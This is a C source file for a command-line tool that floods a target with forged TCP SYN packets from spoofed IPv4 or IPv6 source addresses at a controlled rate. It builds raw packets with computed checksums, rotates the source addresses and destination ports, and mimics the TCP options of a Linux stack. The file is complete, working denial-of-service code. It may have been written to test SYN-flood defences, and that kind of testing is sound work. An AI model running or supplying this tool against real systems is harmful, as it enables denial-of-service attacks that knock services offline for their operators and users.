/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Forged SYNs in the names of many, at a steady rate, out of one interface:
 *
 *     flood IFACE DESTINATION-MAC TARGET FIRST-NAME NAMES[/STEP] EACH RATE SECONDS OPTIONS PORT[-PORT],... [BURST]
 *
 * The n-th packet is in the name n / EACH of NAMES, counted up from FIRST-NAME (an IPv6 name is a /64) by STEP, to the
 * next of the ports in turn, from a random port with a random sequence number.  OPTIONS: stack (as Linux), mss or none.
 * BURST of them, 32 at most, are sent at a time; if it is not given 1, above 1,000 a second 32.  Prints how many it
 * sent.  Bounded by SECONDS; what the interface does not take at once is dropped, as on a real line.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH     32u
#define PORTS_MAX 65536u

struct flood {
	bool v6;
	uint8_t target[16], first[16];
	uint32_t names, step, each;
	uint32_t port_count, option_len, burst;
	uint16_t ports[PORTS_MAX];
	uint8_t option[20];
	uint64_t random;
};

static const uint8_t stack_options[20] = { 2, 4, 5, 0xb4, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1, 3, 3, 7 };

static uint32_t next_random(struct flood *f)
{
	f->random ^= f->random << 13;
	f->random ^= f->random >> 7;
	f->random ^= f->random << 17;
	return (uint32_t)(f->random >> 16);
}

static uint32_t sum(const uint8_t *data, size_t len, uint32_t total)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		total += (uint32_t)data[i] << 8 | data[i + 1];
	return total;
}

static void put_checksum(uint8_t *at, uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	at[0] = (uint8_t)(~total >> 8);
	at[1] = (uint8_t)~total;
}

static void put16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value);
}

/* The name of that number: of IPv4 an address, of IPv6 a /64. */
static void put_name(const struct flood *f, uint8_t *at, uint32_t number)
{
	size_t len = f->v6 ? 16 : 4, last = f->v6 ? 7 : 3;

	memcpy(at, f->first, len);
	for (size_t i = 0; i < 4; i++) {
		number += at[last - i];
		at[last - i] = (uint8_t)number;
		number >>= 8;
	}
}

/* The n-th IP packet; its length. */
static size_t build(struct flood *f, uint8_t *p, uint64_t n)
{
	size_t head = f->v6 ? 40 : 20, address = f->v6 ? 16 : 4, len = 20 + f->option_len;
	uint8_t *source = p + (f->v6 ? 8 : 12), *tcp = p + head;

	memset(p, 0, head + len);
	put_name(f, source, (uint32_t)(n / f->each % f->names) * f->step);
	memcpy(source + address, f->target, address);
	if (f->v6) {
		p[0] = 0x60;
		put16(p + 4, (uint32_t)len);
		p[6] = 6;
		p[7] = 60;
	} else {
		p[0] = 0x45;
		put16(p + 2, (uint32_t)(head + len));
		put16(p + 4, next_random(f));
		p[6] = 0x40;
		p[8] = 60;
		p[9] = 6;
		put_checksum(p + 10, sum(p, 20, 0));
	}
	put16(tcp, 1024 + next_random(f) % 64000);
	put16(tcp + 2, f->ports[n % f->port_count]);
	put32(tcp + 4, next_random(f));
	tcp[12] = (uint8_t)(len / 4 << 4);
	tcp[13] = 2;
	put16(tcp + 14, 64240);
	memcpy(tcp + 20, f->option, f->option_len);
	put_checksum(tcp + 16, sum(tcp, len, sum(source, 2 * address, 6 + (uint32_t)len)));
	return head + len;
}

static int64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

static void parse_ports(struct flood *f, char *text)
{
	for (char *part = strtok(text, ","); part; part = strtok(NULL, ",")) {
		char *dash = strchr(part, '-');

		for (long port = atol(part), last = dash ? atol(dash + 1) : port; port <= last; port++)
			if (f->port_count < PORTS_MAX)
				f->ports[f->port_count++] = (uint16_t)port;
	}
}

static uint64_t run(struct flood *f, int fd, const struct sockaddr_ll *to, long rate, double seconds)
{
	static uint8_t data[BATCH][128];
	static struct iovec iov[BATCH];
	static struct mmsghdr messages[BATCH];
	int64_t start = now_ns(), end = start + (int64_t)(seconds * 1e9);
	uint64_t sent = 0;

	for (int64_t now = start; now < end; now = now_ns()) {
		int64_t due = start + (int64_t)(sent * 1e9 / (double)rate);

		if (due > now) {
			struct timespec until = { .tv_sec = due / 1000000000, .tv_nsec = due % 1000000000 };

			clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
		}
		for (unsigned i = 0; i < f->burst; i++) {
			iov[i] = (struct iovec){ data[i], build(f, data[i], sent + i) };
			messages[i].msg_hdr = (struct msghdr){ .msg_name = (void *)(uintptr_t)to,
							       .msg_namelen = sizeof(*to),
							       .msg_iov = &iov[i],
							       .msg_iovlen = 1 };
		}
		sendmmsg(fd, messages, f->burst, 0);
		sent += f->burst;
	}
	return sent;
}

int main(int argc, char **argv)
{
	static struct flood f = { .random = 88172645463325252ULL };
	char *step;

	if (argc != 11 && argc != 12)
		return 2;
	f.v6 = strchr(argv[3], ':') != NULL;
	int family = f.v6 ? AF_INET6 : AF_INET;
	uint16_t ethertype = f.v6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP;
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ethertype),
				  .sll_halen = 6,
				  .sll_ifindex = (int)if_nametoindex(argv[1]) };
	uint8_t *m = to.sll_addr;
	if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m, m + 1, m + 2, m + 3, m + 4, m + 5) != 6 ||
	    inet_pton(family, argv[3], f.target) != 1 || inet_pton(family, argv[4], f.first) != 1)
		return 2;
	f.names = (uint32_t)strtoul(argv[5], &step, 10);
	f.step = *step == '/' ? (uint32_t)atol(step + 1) : 1;
	f.each = (uint32_t)atol(argv[6]);
	f.option_len = strcmp(argv[9], "stack") == 0 ? 20 : strcmp(argv[9], "mss") == 0 ? 4 : 0;
	memcpy(f.option, stack_options, f.option_len);
	parse_ports(&f, argv[10]);
	f.burst = argc == 12 ? (uint32_t)atol(argv[11]) : atol(argv[7]) < 1000 ? 1 : BATCH;
	f.random ^= (uint64_t)now_ns();
	int fd = socket(AF_PACKET, SOCK_DGRAM, 0);
	int size = 8 << 20;
	if (fd < 0 || f.names == 0 || f.each == 0 || f.port_count == 0 || f.burst == 0 || f.burst > BATCH)
		return 1;
	setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof(size));
	printf("%llu\n", (unsigned long long)run(&f, fd, &to, atol(argv[7]), atof(argv[8])));
	return 0;
}
